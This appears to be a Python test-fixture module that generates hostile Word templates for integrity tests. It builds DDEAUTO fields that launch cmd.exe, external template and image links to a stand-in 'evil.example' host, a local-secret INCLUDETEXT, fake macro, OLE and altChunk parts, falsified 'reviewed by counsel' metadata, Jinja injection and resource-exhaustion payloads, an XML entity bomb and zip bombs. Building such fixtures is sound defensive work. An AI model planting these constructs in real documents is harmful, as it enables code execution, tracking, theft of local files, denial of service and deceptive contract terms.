"""Hostile Word templates for the integrity tests: the bundled template with one thing added."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from agreement_kit.resources import bundled_template

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewrite(
    out: Path, edit: Callable[[dict[str, bytes]], None], source: Path | None = None
) -> Path:
    """Copy ``source`` (the bundled template) to ``out`` with ``edit`` applied to its parts."""
    with zipfile.ZipFile(source or bundled_template()) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    edit(parts)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out


def _replace(parts: dict[str, bytes], name: str, old: str, new: str, count: int = 1) -> None:
    text = parts[name].decode("utf-8")
    assert old in text, f"{old!r} not in {name}"
    parts[name] = text.replace(old, new, count).encode("utf-8")


def _add_relationship(
    parts: dict[str, bytes], rels: str, kind: str, target: str, external: bool
) -> None:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdEvil9" Type="{RELS}/{kind}" Target="{target}"{mode}/>'
    if rels in parts:
        _replace(parts, rels, "</Relationships>", entry + "</Relationships>")
    else:
        parts[rels] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{entry}</Relationships>"
        ).encode()


def _body_append(parts: dict[str, bytes], xml: str) -> None:
    _replace(parts, "word/document.xml", "<w:sectPr", xml + "<w:sectPr")


def _field(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def attached_template(parts: dict[str, bytes]) -> None:
    _add_relationship(
        parts,
        "word/_rels/settings.xml.rels",
        "attachedTemplate",
        "http://evil.example/t.dotm",
        True,
    )


def includetext(parts: dict[str, bytes]) -> None:
    _body_append(parts, _field('INCLUDETEXT "C:\\\\secret.docx"'))


def includepicture(parts: dict[str, bytes]) -> None:
    _body_append(parts, _field('INCLUDEPICTURE "http://evil.example/p.png" \\d'))


def ddeauto(parts: dict[str, bytes]) -> None:
    _body_append(parts, _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))


def dde_split(parts: dict[str, bytes]) -> None:
    """A DDE field whose instruction Word split across two runs."""
    _body_append(
        parts,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">E cmd "/c calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )


def linked_image(parts: dict[str, bytes]) -> None:
    _add_relationship(
        parts, "word/_rels/document.xml.rels", "image", "http://evil.example/track.png", True
    )


def macros(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 512
    _add_relationship(parts, "word/_rels/document.xml.rels", "vbaProject", "vbaProject.bin", False)
    _replace(
        parts,
        "[Content_Types].xml",
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )


def altchunk(parts: dict[str, bytes]) -> None:
    parts["word/evil.html"] = b"<html><body><p>The District waives all claims.</p></body></html>"
    _add_relationship(parts, "word/_rels/document.xml.rels", "aFChunk", "evil.html", False)
    _body_append(parts, '<w:altChunk r:id="rIdEvil9"/>')


def ole_object(parts: dict[str, bytes]) -> None:
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 512
    _add_relationship(
        parts, "word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", False
    )
    _body_append(parts, '<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1"/></w:r></w:p>')


def fake_provenance(parts: dict[str, bytes]) -> None:
    parts["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        b'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Reviewed by counsel">'
        b"<vt:lpwstr>yes, 2027-06-01</vt:lpwstr></property>"
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="Clause: indemnification">'
        b"<vt:lpwstr>1.0; sha256:0; wi-psl-sro</vt:lpwstr></property></Properties>"
    )
    _add_relationship(
        parts,
        "_rels/.rels",
        "custom-properties",
        "docProps/custom.xml",
        False,
    )
    _replace(
        parts,
        "[Content_Types].xml",
        "</Types>",
        '<Override PartName="/docProps/custom.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>',
    )


def safe_filter(parts: dict[str, bytes]) -> None:
    _replace(parts, "word/document.xml", "{{ title }}", "{{ title|safe }}")


def autoescape_off(parts: dict[str, bytes]) -> None:
    _replace(
        parts,
        "word/document.xml",
        "{{ title }}",
        "{% autoescape false %}{{ title }}{% endautoescape %}",
    )


def include(parts: dict[str, bytes]) -> None:
    _replace(parts, "word/document.xml", "{{ title }}", "{% include 'other.xml' %}")


def range_bomb(parts: dict[str, bytes]) -> None:
    _replace(parts, "word/document.xml", "{{ title }}", "{{ range(10**9)|list|length }}")


def string_bomb(parts: dict[str, bytes]) -> None:
    _replace(parts, "word/document.xml", "{{ title }}", "{{ title * 100000000 }}")


def lipsum_bomb(parts: dict[str, bytes]) -> None:
    _replace(parts, "word/document.xml", "{{ title }}", "{{ lipsum(1000000) }}")


def recursion(parts: dict[str, bytes]) -> None:
    _replace(
        parts,
        "word/document.xml",
        "{{ title }}",
        "{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}",
    )


def bidi_text(parts: dict[str, bytes]) -> None:
    _replace(parts, "word/document.xml", "{{ title }}", "{{ title }} \u202eyna fo evaw\u202c")


def entity_bomb(parts: dict[str, bytes]) -> None:
    doc = parts["word/document.xml"].decode()
    head = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    parts["word/document.xml"] = re.sub(r"(<\?xml[^>]*\?>)", r"\1" + head, doc, count=1).encode()


ACTIVE = {
    "attachedTemplate": attached_template,
    "INCLUDETEXT": includetext,
    "INCLUDEPICTURE": includepicture,
    "DDEAUTO": ddeauto,
    "DDE split across runs": dde_split,
    "linked image": linked_image,
    "macros": macros,
    "altChunk": altchunk,
    "OLE object": ole_object,
}
TAGS = {
    "safe filter": safe_filter,
    "autoescape off": autoescape_off,
    "include": include,
}
BOMBS = {
    "range": range_bomb,
    "string": string_bomb,
    "lipsum": lipsum_bomb,
    "recursion": recursion,
}


def _patch_sizes(path: Path, name: str, declared: int) -> None:
    """Rewrite the uncompressed size that ``name``'s local and central headers declare."""
    import struct

    data = bytearray(path.read_bytes())
    encoded = name.encode()
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            start = at + 4
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(encoded)] == encoded:
                struct.pack_into("<I", data, at + offset, declared)
    path.write_bytes(bytes(data))


def zip_bomb(out: Path, declared: int = 3_000_000_000) -> Path:
    """A .docx whose document.xml declares ``declared`` bytes uncompressed (3 GB by default):
    the directory says what a bomb would say, so a checker must refuse it without reading."""
    rewrite(out, lambda parts: None)
    _patch_sizes(out, "word/document.xml", declared)
    return out


def lying_zip(out: Path, actual: int = 100_000_000) -> Path:
    """A .docx whose document.xml holds ``actual`` bytes of zeros but declares 20,000."""
    with zipfile.ZipFile(bundled_template()) as zf:
        parts = {name: zf.read(name) for name in zf.namelist() if name != "word/document.xml"}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        with zf.open("word/document.xml", "w", force_zip64=False) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(actual // len(chunk)):
                fh.write(chunk)
    _patch_sizes(out, "word/document.xml", 20_000)
    return out
